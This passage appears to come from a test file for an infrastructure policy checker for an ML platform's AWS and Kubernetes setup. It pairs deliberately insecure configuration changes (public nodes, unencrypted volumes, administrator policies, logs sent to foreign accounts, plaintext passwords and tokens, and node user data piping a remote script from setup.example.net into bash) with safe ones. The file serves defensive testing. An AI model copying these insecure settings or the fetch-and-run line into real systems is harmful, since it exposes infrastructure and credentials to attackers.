  description: "Feature store",
  enableKeyRotation: true,
  rotationPeriodInDays: 180,
  deletionWindowInDays: 30,
  policy: doc({
    Sid: "AccountAdministers",
    Effect: "Allow",
    Principal: { AWS: `arn:aws:iam::${ME}:root` },
    Action: [
      "kms:Describe*",
      "kms:Get*",
      "kms:List*",
      "kms:PutKeyPolicy",
      "kms:EnableKeyRotation",
      "kms:TagResource",
      "kms:ScheduleKeyDeletion",
      "kms:CancelKeyDeletion",
    ],
    Resource: ["*"],
  }),
  tags: { Name: "millrace-prod-features" },
});
addOk(F, "cloudwatch/logGroup:LogGroup", "one more log group, kept for two years", {
  name: "/millrace-prod/features",
  retentionInDays: 731,
  kmsKeyId: LOGS_KEY,
});

// ---------------------------------------------------------------- node pools
kind = "nodes";
const nodeClass = (name: string) => K(P, "karpenter.k8s.aws/v1:EC2NodeClass", `${name}-class`);
const pool = (name: string) => K(P, "karpenter.sh/v1:NodePool", name);
nodeClass("training").bad("images of whoever names one alike", (i) => (i.spec.amiSelectorTerms = [{ name: "al2023-*" }]));
nodeClass("cpu").bad("the newest image, whatever it is", (i) => (i.spec.amiSelectorTerms = [{ alias: "al2023@latest" }]));
nodeClass("training").bad("nodes with public addresses", (i) => (i.spec.associatePublicIPAddress = true));
nodeClass("inference").bad("metadata without a token", (i) => (i.spec.metadataOptions.httpTokens = "optional"));
nodeClass("inference").bad("disks in the clear", (i) => (i.spec.blockDeviceMappings[0].ebs.encrypted = false));
nodeClass("cpu").bad("a second disk without encryption", (i) =>
  i.spec.blockDeviceMappings.push({ deviceName: "/dev/xvdb", ebs: { volumeSize: "100Gi", volumeType: "gp3" } }),
);
nodeClass("cpu").bad(
  "user data that fetch and run a script",
  (i) => (i.spec.userData = "#!/bin/bash\ncurl -s http://setup.example.net/node.sh | bash\n"),
);
nodeClass("training").bad(
  "subnets by a tag that public ones have",
  (i) => (i.spec.subnetSelectorTerms = [{ tags: { "kubernetes.io/role/elb": "1" } }]),
);
nodeClass("training").bad(
  "any security group of the account",
  (i) => (i.spec.securityGroupSelectorTerms = [{ tags: { environment: "*" } }]),
);
pool("training").bad("no limit of GPUs", (i) => delete i.spec.limits);
pool("training").bad("limits only cpu", (i) => (i.spec.limits = { cpu: "100000" }));
pool("training").bad("loses its taint", (i) => delete i.spec.template.spec.taints);
pool("inference").bad("spot nodes serve models", (i) => (i.spec.template.spec.requirements[1].values = ["spot", "on-demand"]));
pool("inference").bad("consolidates nodes in use without a budget", (i) => {
  i.spec.disruption = { consolidationPolicy: "WhenEmptyOrUnderutilized", consolidateAfter: "0s", budgets: [{ nodes: "100%" }] };
});
pool("training").bad("nodes never expire", (i) => (i.spec.template.spec.expireAfter = "Never"));
pool("cpu").bad(
  "any type of instance that is not small: NotIn",
  (i) =>
    (i.spec.template.spec.requirements[0] = { key: "node.kubernetes.io/instance-type", operator: "NotIn", values: ["t3.nano"] }),
);
pool("cpu").bad("GPU nodes in the pool without GPUs", (i) => i.spec.template.spec.requirements[0].values.push("p4d.24xlarge"));
pool("training").bad("kicked out after five minutes of grace", (i) => (i.spec.template.spec.terminationGracePeriod = "5m"));
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad(
  "one system node",
  (i) => (i.scalingConfig = { minSize: 1, desiredSize: 1, maxSize: 1 }),
);
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad("SSH to nodes", (i) => (i.remoteAccess = { ec2SshKey: "ops" }));
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad(
  "all nodes are replaced at once",
  (i) => (i.updateConfig = { maxUnavailablePercentage: 100 }),
);
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad("on spot", (i) => (i.capacityType = "SPOT"));
A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").bad("a key for SSH and a public address", (i) => {
  i.keyName = "ops";
  i.networkInterfaces = [{ associatePublicIpAddress: "true" }];
});
A(F, "ec2/launchTemplate:LaunchTemplate", "access-host-template").bad(
  "metadata without a token, on the access host",
  (i) => (i.metadataOptions.httpTokens = "optional"),
);
K(P, "storage.k8s.io/v1:StorageClass", "gp3").bad("volumes in the clear", (i) => (i.parameters.encrypted = "false"));
pool("cpu").ok("more room and one more type", (i) => {
  i.spec.limits.cpu = "96";
  i.spec.template.spec.requirements[0].values.push("m7a.2xlarge");
});
pool("training").ok("nodes live for two weeks", (i) => (i.spec.template.spec.expireAfter = "336h"));
pool("training").ok(
  "the limit as a number, a limit of memory too",
  (i) => (i.spec.limits = { "nvidia.com/gpu": 64, memory: "20Ti" }),
);
pool("inference").ok("no disruption in working hours", (i) =>
  i.spec.disruption.budgets.push({ nodes: "0", schedule: "0 8 * * mon-fri", duration: "10h" }),
);
nodeClass("training").ok("larger and faster disks", (i) =>
  Object.assign(i.spec.blockDeviceMappings[0].ebs, { volumeSize: "1Ti", iops: 6000, throughput: 500 }),
);
nodeClass("cpu").ok("detailed monitoring and no public address, said aloud", (i) =>
  Object.assign(i.spec, { detailedMonitoring: true, associatePublicIPAddress: false }),
);
nodeClass("inference").ok("an older image that is pinned", (i) => (i.spec.amiSelectorTerms = [{ alias: "al2023@v20260915" }]));
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").ok("up to nine, two at a time", (i) => {
  i.scalingConfig.maxSize = 9;
  i.scalingConfig.desiredSize = 4;
});
A(P, "eks/nodeGroup:NodeGroup", "system-nodes").ok("larger nodes", (i) => (i.instanceTypes = ["m7i.2xlarge"]));
A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").ok("detailed monitoring and a larger disk", (i) => {
  i.monitoring = { enabled: true };
  i.blockDeviceMappings[0].ebs.volumeSize = 150;
});
K(P, "storage.k8s.io/v1:StorageClass", "gp3").ok("keeps volumes, with our key", (i) => {
  i.parameters.kmsKeyId = CLUSTER_KEY;
  i.reclaimPolicy = "Retain";
});
objOk(P, "storage.k8s.io/v1", "StorageClass", "a class of fast volumes", {
  metadata: { name: "io2" },
  provisioner: "ebs.csi.aws.com",
  parameters: { type: "io2", encrypted: "true", iops: "4000", kmsKeyId: CLUSTER_KEY },
  volumeBindingMode: "WaitForFirstConsumer",
  allowVolumeExpansion: true,
  reclaimPolicy: "Delete",
});

// ---------------------------------------------------------------- secrets
kind = "secrets";
K(P, "external-secrets.io/v1:ClusterSecretStore", "external-secrets-store").bad(
  "every namespace uses the store",
  (i) => (i.spec.conditions = [{ namespaceRegexes: [".*"] }]),
);
K(P, "external-secrets.io/v1:ClusterSecretStore", "external-secrets-store").bad(
  "static keys instead of the role",
  (i) =>
    (i.spec.provider.aws.auth = {
      secretRef: { accessKeyIDSecretRef: { name: "aws", key: "id" }, secretAccessKeySecretRef: { name: "aws", key: "secret" } },
    }),
);
K(P, "generators.external-secrets.io/v1alpha1:Password", "tracking-generator").bad("passwords of six letters", (i) =>
  Object.assign(i.spec, { length: 6, digits: 1 }),
);
A(P, "eks/podIdentityAssociation:PodIdentityAssociation", "external-secrets-role-association").bad(
  "the role of secrets for a team's jobs",
  (i) => Object.assign(i, { namespace: "team-risk", serviceAccount: "jobs" }),
);
ALL.push(
  on(P, "random:index/randomPassword:RandomPassword", "monitoring-grafana-password").bad(
    say("a password of eight"),
    (i) => (i.length = 8),
  ),
);
K(P, "core/v1:ConfigMap", "tracking-accounts").bad("the admin's password in a ConfigMap", (i) => {
  const k = Object.keys(i.data)[0] as string;
  i.data[k] += "admin_password = CorrectHorse9\n";
});
objBad(P, "v1", "Secret", "a Secret that belongs to a service account for ever", {
  metadata: { name: "ci-token", namespace: "kube-system", annotations: { "kubernetes.io/service-account.name": "ci" } },
  type: "kubernetes.io/service-account-token",
});
objBad(W, "v1", "ConfigMap", "keys of AWS in a ConfigMap", {
  metadata: { name: "aws", namespace: "team-risk" },
  data: {
    credentials:
      "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
  },
});
objBad(P, "external-secrets.io/v1", "ExternalSecret", "the master password of the database in a team's namespace", {
  metadata: { name: "db", namespace: "team-risk" },
  spec: {
    refreshInterval: "1h",
    secretStoreRef: { kind: "ClusterSecretStore", name: "aws-secrets" },
    target: { name: "db" },
    data: [{ secretKey: "password", remoteRef: { key: "rds!db-7aa6e329cfc9009263130d9cdf", property: "password" } }],
  },
});
addBad(F, "secretsmanager/secret:Secret", "a secret that is gone at once, under the key of AWS", {
  name: "millrace-prod/pager",
  recoveryWindowInDays: 0,
});
addBad(F, "ssm/parameter:Parameter", "a password as a plain parameter", {
  name: "/millrace/prod/db-password",
  type: "String",
  value: "Summer2026!",
});
addBad(F, "secretsmanager/secretVersion:SecretVersion", "the value of a secret in the program", {
  secretId: "millrace-prod/pager",
  secretString: "pk-live-51H8f2kXyzAbCdEf0123456789",
});
K(P, "generators.external-secrets.io/v1alpha1:Password", "tracking-generator").ok(
  "longer passwords",
  (i) => (i.spec.length = 64),
);
ALL.push(
  on(P, "random:index/randomPassword:RandomPassword", "monitoring-grafana-password").harmless(
    say("a longer password with special characters"),
    (i) => {
      i.length = 48;
      i.special = true;
    },
  ),
);
addOk(F, "ssm/parameter:Parameter", "a plain setting", { name: "/millrace/prod/threshold", type: "String", value: "0.8" });
objOk(P, "external-secrets.io/v1", "ExternalSecret", "one more secret of the tracking server", {
  metadata: { name: "mlflow-extra", namespace: "mlflow" },
  spec: {
    refreshPolicy: "CreatedOnce",
    dataFrom: [
      {
        sourceRef: {
          generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Password", name: "mlflow-keys" },
        },
      },
    ],
    target: { name: "mlflow-extra", creationPolicy: "Orphan", immutable: true },
  },
});

// ---------------------------------------------------------------- cluster
kind = "cluster";
eks.bad("audit logs are off", (i) => (i.enabledClusterLogTypes = ["api", "scheduler"]));
eks.bad("whoever made it is admin", (i) => (i.accessConfig.bootstrapClusterCreatorAdminPermissions = true));
eks.bad("the ConfigMap of old decides too", (i) => (i.accessConfig.authenticationMode = "API_AND_CONFIG_MAP"));
eks.bad("secrets are not encrypted with our key", (i) => delete i.encryptionConfig);
eks.bad("control plane in public subnets", (i) => i.vpcConfig.subnetIds.push(PUBLIC_A));
eks.bad("a version out of support", (i) => (i.version = "1.27"));
eks.bad("unprotected", (i) => (i.deletionProtection = false));
A(P, "eks/addon:Addon", "addons-before-nodes-vpc-cni").bad(
  "network policies are not enforced",
  configured((v) => (v.enableNetworkPolicy = "false")),
);
A(P, "eks/addon:Addon", "addons-before-nodes-vpc-cni").bad("network policies are only written down", (i) => {
  const v = JSON.parse(i.configurationValues);
  v.env.NETWORK_POLICY_ENFORCING_MODE = "none";
  v.enableNetworkPolicy = false;
  i.configurationValues = JSON.stringify(v);
});
A(P, "eks/addon:Addon", "addons-after-nodes-coredns").bad(
  "one DNS server",
  configured((v) => (v.replicaCount = 1)),
);
A(F, "cloudtrail/trail:Trail", "audit-trail").bad("one region only", (i) => (i.isMultiRegionTrail = false));
A(F, "cloudtrail/trail:Trail", "audit-trail").bad(
  "reads of predictions are not recorded",
  (i) => (i.advancedEventSelectors = i.advancedEventSelectors.filter((s: any) => s.name !== "accesses")),
);
A(F, "cloudwatch/logGroup:LogGroup", "cluster-logs-group").bad("logs of the cluster for a week", (i) => (i.retentionInDays = 7));
A(F, "codebuild/project:Project", "ci-runner").bad("a privileged runner", (i) => (i.environment.privilegedMode = true));
A(F, "codebuild/webhook:Webhook", "ci-runner-jobs").bad(
  "any workflow, also one of a fork",
  (i) => (i.filterGroups = [{ filters: [{ type: "EVENT", pattern: "WORKFLOW_JOB_QUEUED,PULL_REQUEST_CREATED" }] }]),
);
A(F, "codebuild/webhook:Webhook", "ci-runner-jobs").bad(
  "the pattern of workflows is not anchored",
  (i) => (i.filterGroups[0].filters[1].pattern = "preview|up"),
);
A(F, "codebuild/project:Project", "ci-runner").bad(
  "a token in the environment of the build",
  (i) =>
    (i.environment.environmentVariables = [
      { name: "GITHUB_TOKEN", value: "ghp_0123456789abcdefghijABCDEFGHIJ012345", type: "PLAINTEXT" },
    ]),
);
eks.ok("log types in another order", (i) => i.enabledClusterLogTypes.reverse());
eks.ok("tags", (i) => (i.tags = { purpose: "ml" }));
A(P, "eks/addon:Addon", "addons-after-nodes-coredns").ok(
  "three DNS servers",
  configured((v) => (v.replicaCount = 3)),
);
A(P, "eks/addon:Addon", "addons-before-nodes-vpc-cni").ok(
  "the flag as a boolean",
  configured((v) => (v.enableNetworkPolicy = true)),
);
A(F, "cloudwatch/logGroup:LogGroup", "cluster-logs-group").ok("ten years of logs", (i) => (i.retentionInDays = 3653));
A(F, "codebuild/project:Project", "ci-runner").ok("a larger runner with a shorter timeout", (i) => {
  i.environment.computeType = "BUILD_GENERAL1_LARGE";
  i.buildTimeout = 60;
});
A(F, "cloudtrail/trail:Trail", "audit-trail").ok(
  "insights",
  (i) => (i.insightSelectors = [{ insightType: "ApiCallRateInsight" }]),
);

// ---------------------------------------------------------------- images, costs, tags
kind = "images-costs";
A(F, "ecr/repository:Repository", "model-server-images").bad("tags may be moved, but for one", (i) => {
  i.imageTagMutability = "MUTABLE_WITH_EXCLUSION";
  i.imageTagMutabilityExclusionFilters = [{ filter: "v*", filterType: "WILDCARD" }];
});
A(F, "ecr/repository:Repository", "mlflow-images").bad(
  "encrypted with the key of AWS",
  (i) => (i.encryptionConfigurations = [{ encryptionType: "AES256" }]),
);
A(F, "ecr/lifecyclePolicy:LifecyclePolicy", "model-server-images-lifecycle").bad(
  "all images but the newest expire",
  (i) =>
    (i.policy = JSON.stringify({
      rules: [
        {
          rulePriority: 1,
          selection: { tagStatus: "any", countType: "imageCountMoreThan", countNumber: 1 },
          action: { type: "expire" },
        },
      ],
    })),
);
rollout.bad("another repository by the same digest", (i) => {
  for (const c of i.spec.template.spec.containers)
    c.image = c.image.replace(`${ME}.dkr.ecr.${REGION}.amazonaws.com`, "ghcr.io/example");
});
addBad(F, "ecr/pullThroughCacheRule:PullThroughCacheRule", "a cache of an unknown registry", {
  ecrRepositoryPrefix: "hub",
  upstreamRegistryUrl: "registry.example.net",
});
A(F, "budgets/budget:Budget", "budget").bad("a budget a hundred times as large", (i) => (i.limitAmount = "1200000"));
A(F, "budgets/budget:Budget", "budget").bad("nobody is told", (i) => {
  for (const n of i.notifications) n.subscriberEmailAddresses = [];
});
A(F, "budgets/budget:Budget", "budget").bad(
  "told at a thousand percent only",
  (i) => (i.notifications = [{ ...i.notifications[0], threshold: 1000 }]),
);
ALL.push(
  on(P, "pulumi:providers:aws", "aws").bad(say("the default tags lose their owner"), (i) => {
    const t = JSON.parse(i.defaultTags);
    delete t.tags.owner;
    i.defaultTags = JSON.stringify(t);
  }),
);
ALL.push(
  on(F, "pulumi:providers:aws", "aws").bad(say("any account is allowed"), (i) => {
    i.allowedAccountIds = "[]";
  }),
);
A(F, "s3/bucket:Bucket", "predictions").bad("personal data are called public", (i) => (i.tags["data-classification"] = "public"));
A(F, "budgets/budget:Budget", "budget").ok("a smaller budget with one more threshold", (i) => {
  i.limitAmount = "11000";
  i.notifications.push({ ...i.notifications[0], threshold: 90 });
});
A(F, "budgets/budget:Budget", "budget").ok("one more reader", (i) => {
  for (const n of i.notifications) n.subscriberEmailAddresses = [...n.subscriberEmailAddresses, "finance@example.com"];
});
A(F, "budgets/budget:Budget", "budget").ok("amount with decimals", (i) => (i.limitAmount = "12000.0"));
A(F, "ecr/lifecyclePolicy:LifecyclePolicy", "mlflow-images-lifecycle").ok("images without a tag after 30 days", (i) => {
  const p = JSON.parse(i.policy);
  p.rules[0].selection.countNumber = 30;
  i.policy = JSON.stringify(p);
});
ALL.push(
  on(P, "pulumi:providers:aws", "aws").harmless(say("one more default tag"), (i) => {
    const t = JSON.parse(i.defaultTags);
    t.tags.repository = "example/millrace";
    i.defaultTags = JSON.stringify(t);
  }),
);
addOk(F, "ecr/registryScanningConfiguration:RegistryScanningConfiguration", "scanned continuously", {
  scanType: "ENHANCED",
  rules: [{ scanFrequency: "CONTINUOUS_SCAN", repositoryFilters: [{ filter: "*", filterType: "WILDCARD" }] }],
});

// ---------------------------------------------------------------- other types
kind = "other";
addBad(F, "lambda/functionUrl:FunctionUrl", "a function for everybody", {
  functionName: "validate-data",
  authorizationType: "NONE",
});
addBad(F, "lambda/function:Function", "a function with a secret and an old runtime", {
  name: "validate",
  role: `arn:aws:iam::${ME}:role/x`,
  runtime: "python3.8",
  handler: "main.handler",
  environment: { variables: { DB_PASSWORD: "Summer2026!" } },
});
addBad(F, "sagemaker/notebookInstance:NotebookInstance", "a notebook with root and the internet", {
  instanceType: "ml.t3.medium",
  roleArn: `arn:aws:iam::${ME}:role/x`,
  rootAccess: "Enabled",
  directInternetAccess: "Enabled",
});
addBad(F, "ec2/instance:Instance", "an instance with a public address and old metadata", {
  ami: "ami-0123456789abcdef0",
  instanceType: "t3.large",
  associatePublicIpAddress: true,
  subnetId: PUBLIC_A,
  metadataOptions: { httpTokens: "optional" },
});
addBad(F, "ebs/volume:Volume", "a volume in the clear", { availabilityZone: "eu-north-1a", size: 100, encrypted: false });
addBad(F, "efs/fileSystem:FileSystem", "a file system in the clear", { encrypted: false });
addBad(F, "sqs/queue:Queue", "a queue in the clear", { name: "events", sqsManagedSseEnabled: false });
addBad(F, "sns/topicSubscription:TopicSubscription", "alarms go out over plain HTTP", {
  topic: `arn:aws:sns:${REGION}:${ME}:alarms`,
  protocol: "http",
  endpoint: "http://hooks.example.net/alarms",
});
addBad(F, "apigatewayv2/route:Route", "a route without authorization", {
  apiId: "a1",
  routeKey: "ANY /{proxy+}",
  authorizationType: "NONE",
  target: "integrations/x",
});
addBad(F, "iam/user:User", "a user of IAM", { name: "deploy-bot" });
addBad(F, "iam/accountPasswordPolicy:AccountPasswordPolicy", "short passwords", {
  minimumPasswordLength: 6,
  requireSymbols: false,
});
addBad(F, "ec2/amiLaunchPermission:AmiLaunchPermission", "an image for everybody", { imageId: "ami-0123", group: "all" });
addBad(F, "ec2/keyPair:KeyPair", "a key pair for SSH", { keyName: "ops", publicKey: "ssh-rsa AAAAB3NzaC1yc2E" });
addBad(F, "cloudfront/distribution:Distribution", "a distribution over HTTP with old TLS", {
  enabled: true,
  origins: [{ originId: "m", domainName: `${MODELS}.s3.amazonaws.com` }],
  defaultCacheBehavior: {
    targetOriginId: "m",
    viewerProtocolPolicy: "allow-all",
    allowedMethods: ["GET", "HEAD"],
    cachedMethods: ["GET", "HEAD"],
  },
  viewerCertificate: { cloudfrontDefaultCertificate: true, minimumProtocolVersion: "TLSv1" },
  restrictions: { geoRestriction: { restrictionType: "none" } },
});
addBad(F, "s3/accountPublicAccessBlock:AccountPublicAccessBlock", "the account does not block", {
  blockPublicAcls: false,
  blockPublicPolicy: false,
  ignorePublicAcls: false,
  restrictPublicBuckets: false,
});
addBad(F, "ec2/encryptionByDefault:EncryptionByDefault", "disks are not encrypted by default", { enabled: false });
addBad(F, "guardduty/detector:Detector", "GuardDuty is off", { enable: false });
objBad(P, "v1", "PersistentVolume", "a volume of the node's files", {
  metadata: { name: "host" },
  spec: { capacity: { storage: "10Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" }, storageClassName: "" },
});
objBad(P, "apiregistration.k8s.io/v1", "APIService", "an API that is not verified", {
  metadata: { name: "v1beta1.metrics.example.com" },
  spec: {
    group: "metrics.example.com",
    version: "v1beta1",
    insecureSkipTLSVerify: true,
    groupPriorityMinimum: 100,
    versionPriority: 100,
    service: { name: "metrics", namespace: "default" },
  },
});
objBad(P, "scheduling.k8s.io/v1", "PriorityClass", "a class above the platform for everybody", {
  metadata: { name: "urgent" },
  value: 900000000,
  globalDefault: true,
});
objBad(W, "trainer.kubeflow.org/v1alpha1", "TrainJob", "a training job beside the queue", {
  metadata: { name: "big", namespace: "team-risk" },
  spec: {
    runtimeRef: { name: "torch" },
    trainer: { numNodes: 8, image: "pytorch/pytorch:latest", resourcesPerNode: { limits: { "nvidia.com/gpu": 8 } } },
  },
});
addOk(F, "sqs/queue:Queue", "a queue with our key", {
  name: "millrace-prod-events",
  kmsMasterKeyId: DATA_KEY,
  messageRetentionSeconds: 1209600,
});
addOk(F, "sns/topic:Topic", "a topic with our key", { name: "millrace-prod-alarms", kmsMasterKeyId: LOGS_KEY });
addOk(F, "cloudwatch/metricAlarm:MetricAlarm", "an alarm on the disk of the database", {
  name: "db-disk",
  namespace: "AWS/RDS",
  metricName: "FreeStorageSpace",
  comparisonOperator: "LessThanThreshold",
  threshold: 10737418240,
  evaluationPeriods: 3,
  period: 300,
  statistic: "Minimum",
  dimensions: { DBInstanceIdentifier: "millrace-prod-tracking" },
  alarmActions: [`arn:aws:sns:${REGION}:${ME}:alarms`],
});
addOk(F, "ebs/volume:Volume", "a volume with our key", {
  availabilityZone: "eu-north-1a",
  size: 100,
  type: "gp3",
  encrypted: true,
  kmsKeyId: CLUSTER_KEY,
});
addOk(F, "efs/fileSystem:FileSystem", "a file system with our key", {
  encrypted: true,
  kmsKeyId: DATA_KEY,
  throughputMode: "elastic",
});
addOk(F, "guardduty/detector:Detector", "GuardDuty", { enable: true, findingPublishingFrequency: "FIFTEEN_MINUTES" });
addOk(F, "s3/accountPublicAccessBlock:AccountPublicAccessBlock", "the account blocks", {
  blockPublicAcls: true,
  blockPublicPolicy: true,
  ignorePublicAcls: true,
  restrictPublicBuckets: true,
});
addOk(F, "ec2/encryptionByDefault:EncryptionByDefault", "disks are encrypted by default", { enabled: true });
addOk(F, "backup/vault:Vault", "a vault with our key", { name: "millrace-prod", kmsKeyArn: DB_KEY });
objOk(P, "scheduling.k8s.io/v1", "PriorityClass", "a class below all", {
  metadata: { name: "batch" },
  value: -10,
  preemptionPolicy: "Never",
  description: "What can wait",
});
objOk(W, "v1", "ServiceAccount", "an account without a token", {
  metadata: { name: "reports", namespace: "team-risk" },
  automountServiceAccountToken: false,
});
objOk(P, "cert-manager.io/v1", "Certificate", "one more certificate of a name", {
  metadata: { name: "grafana", namespace: "istio-ingress" },
  spec: {
    dnsNames: ["grafana.models.internal"],
    duration: "2160h",
    renewBefore: "720h",
    issuerRef: { kind: "Issuer", name: "ingress-certificate-authority" },
    privateKey: { algorithm: "ECDSA", size: 256, rotationPolicy: "Always" },
    secretName: "grafana-certificate",
    usages: ["digital signature", "server auth"],
  },
});
objOk(P, "v1", "ConfigMap", "a dashboard of the team", {
  metadata: { name: "dashboard-queues", namespace: "monitoring", labels: { grafana_dashboard: "1" } },
  data: { "queues.json": '{"title":"Queues","panels":[]}' },
});

// ---------------------------------------------------------------- second round: other spellings
kind = "releases";
gate.bad("error share is scaled by a hundredth", (i) => query(i, 0, (q) => `0.01 * (${q})`));
gate.bad("slow share never has an answer", (i) => query(i, 1, (q) => `(${q}) unless on() vector(1)`));
watch.bad("error share is averaged over six hours", (i) => query(i, 0, (q) => `avg_over_time((${q})[6h:1m])`));
watch.bad(
  "fails only above one, which a share never is",
  (i) => (i.spec.metrics[0].failureCondition = "len(result) > 0 && !isNaN(result[0]) && result[0] > 1"),
);
watch.bad("watches only one of many pods", (i) => query(i, 1, (q) => q.replaceAll("sum(", "min(")));
rollout.bad("first weight of fifty, as text", (i) => (canary(i).steps[3].setWeight = "50"));
rollout.bad("the watch is gone", (i) => delete canary(i).analysis);
rollout.bad("a deadline of a day for one that does not start", (i) => {
  i.spec.progressDeadlineSeconds = 86400;
  i.spec.progressDeadlineAbort = "false";
});
gate.ok("class of answers as a pattern", (i) =>
  query(i, 0, (q) => swap(q, 'response_code_class="5xx"', 'response_code_class=~"5xx"')),
);
gate.ok("conditions in another order", (i) => {
  const m = i.spec.metrics[0];
  m.successCondition = "len(result) > 0 && result[0] <= {{args.maxErrorShare}} && !isNaN(result[0])";
});
gate.ok("sum by nothing", (i) => query(i, 1, (q) => q.replaceAll("sum(", "sum by () (")));
gate.ok("windows in minutes", (i) => {
  for (const n of [0, 1]) query(i, n, (q) => q.replaceAll("[120s]", "[2m]"));
});
rollout.ok("weights as text", (i) => (canary(i).steps[7].setWeight = "20"));
root.ok(
  "a header for browsers",
  (i) => (i.spec.http[0].headers = { response: { set: { "strict-transport-security": "max-age=31536000" } } }),
);

kind = "aws-policies";
role(W, "fraud-reader").bad(
  "a policy inside of the role",
  (i) => (i.inlinePolicies = [{ name: "more", policy: doc({ Effect: "Allow", Action: "s3:*", Resource: "*" }) }]),
);
role(W, "risk-identity-role").bad(
  "a managed policy inside of the role",
  (i) => (i.managedPolicyArns = ["arn:aws:iam::aws:policy/IAMFullAccess"]),
);
addBad(F, "iam/policyAttachment:PolicyAttachment", "attaches administration to several at once", {
  name: "ops",
  roles: ["millrace-prod-runner-f2c896c"],
  policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
});
addBad(F, "ssoadmin/managedPolicyAttachment:ManagedPolicyAttachment", "administration for a permission set", {
  instanceArn: "arn:aws:sso:::instance/ssoins-1",
  permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1/ps-1",
  managedPolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
});
addBad(F, "cloudwatch/logSubscriptionFilter:LogSubscriptionFilter", "logs go to a foreign account", {
  name: "copy",
  logGroup: "/aws/eks/millrace-prod/cluster",
  filterPattern: "",
  destinationArn: `arn:aws:logs:${REGION}:121212121212:destination:all`,
});
addBad(F, "cloudwatch/eventTarget:EventTarget", "events go to a foreign account's bus", {
  rule: "data",
  arn: `arn:aws:events:${REGION}:121212121212:event-bus/default`,
});
A(F, "s3/bucketNotification:BucketNotification", "data-events").bad(
  "a foreign topic hears of objects",
  (i) => (i.topics = [{ topicArn: `arn:aws:sns:${REGION}:121212121212:t`, events: ["s3:ObjectCreated:*"] }]),
);
addBad(F, "s3/inventory:Inventory", "the inventory of predictions goes to a foreign bucket", {
  bucket: PREDICTIONS,
  name: "all",
  includedObjectVersions: "All",
  schedule: { frequency: "Daily" },
  destination: { bucket: { format: "CSV", bucketArn: "arn:aws:s3:::partner-inventory", accountId: "121212121212" } },
});
addBad(F, "cognito/identityPool:IdentityPool", "identities for whoever asks", {
  identityPoolName: "models",
  allowUnauthenticatedIdentities: true,
});
addBad(F, "rolesanywhere/profile:Profile", "sessions of twelve hours for roles outside of AWS", {
  name: "laptops",
  enabled: true,
  durationSeconds: 43200,
  roleArns: [`arn:aws:iam::${ME}:role/millrace-prod-ci-deploy`],
});
A(F, "ec2/vpcEndpoint:VpcEndpoint", "network-s3").ok(
  "accounts as lists",
  statement("OurBuckets", (s) => (s.Condition.StringEquals = { "aws:PrincipalAccount": [ME], "aws:ResourceAccount": [ME] })),
);
role(F, "publishers-models").ok(
  "audience as a list",
  statement(
    "GitHubActions",
    (s) => (s.Condition.StringEquals["token.actions.githubusercontent.com:aud"] = ["sts.amazonaws.com"]),
    T,
  ),
);
managed("publishers-models-policy").ok(
  "a denial beside it",
  allowed({ Sid: "Never", Effect: "Deny", Action: ["s3:DeleteObject*", "s3:BypassGovernanceRetention"], Resource: ["*"] }),
);
addOk(F, "kms/grant:Grant", "a grant for a role of ours", {
  keyId: DATA_KEY,
  granteePrincipal: `arn:aws:iam::${ME}:role/millrace-prod-tracking-role-fd106ca`,
  operations: ["Decrypt"],
});

kind = "networks";
A(F, "route53/zone:Zone", "models-zone").bad("the private zone becomes a public one", (i) => delete i.vpcs);
addOk(F, "vpc/securityGroupEgressRule:SecurityGroupEgressRule", "S3 by its list of prefixes", {
  securityGroupId: "sg-df12e08bd42af2f39",
  ipProtocol: "tcp",
  fromPort: 443,
  toPort: 443,
  prefixListId: "pl-c3aa4faa",
  description: "S3",
});
addOk(
  P,
  "vpc/securityGroupIngressRule:SecurityGroupIngressRule",
  "the runner reaches the balancer",
  ingressRule({
    securityGroupId: BALANCER_SG,
    referencedSecurityGroupId: "sg-df12e08bd42af2f39",
    description: "HTTPS from the runner",
  }),
);
K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").ok("hosts by name", (i) => {
  for (const s of i.spec.servers) s.hosts = ["fraud.models.internal", "mlflow.models.internal", "grafana.models.internal"];
});

kind = "pods";
cron.bad("every minute, one beside the other", (i) => {
  i.spec.schedule = "* * * * *";
  i.spec.concurrencyPolicy = "Allow";
});
cron.bad("throws runs away at once", (i) => {
  const c = i.spec.jobTemplate.spec.template.spec.containers[0];
  c.command = c.command.map((a: string) => (a.startsWith("--older-than") ? "--older-than=0d" : a));
});
K(P, "core/v1:ConfigMap", "tracking-accounts").bad("everyone manages everything by default", (i) => {
  const k = Object.keys(i.data)[0] as string;
  i.data[k] = swap(i.data[k], "NO_PERMISSIONS", "MANAGE");
});
K(P, "core/v1:Namespace", "tracking-namespace").bad(
  "the tracking server's namespace is baseline only",
  (i) => (i.metadata.labels["pod-security.kubernetes.io/enforce"] = "baseline"),
);
K(P, "policy/v1:PodDisruptionBudget", "tracking-budget").bad("nothing may ever be evicted", (i) => (i.spec.maxUnavailable = 0));
K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").bad(
  "five hundred replicas where 25 pods are allowed",
  (i) => (i.spec.maxReplicas = 500),
);
rollout.bad("no limit of memory", (i) => delete i.spec.template.spec.containers[0].resources.limits);
objBad(P, "v1", "Secret", "a password in the program", {
  metadata: { name: "smtp", namespace: "monitoring" },
  stringData: { password: "Tr0ub4dor-and-3" },
});
rollout.ok(
  "quantities in other units",
  (i) =>
    (i.spec.template.spec.containers[0].resources = {
      requests: { cpu: 0.5, memory: "1024Mi" },
      limits: { memory: "1073741824" },
    }),
);
K(W, "policy/v1:PodDisruptionBudget", "fraud-budget").ok("two thirds at least", (i) => {
  delete i.spec.maxUnavailable;
  i.spec.minAvailable = "60%";
});
K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").ok(
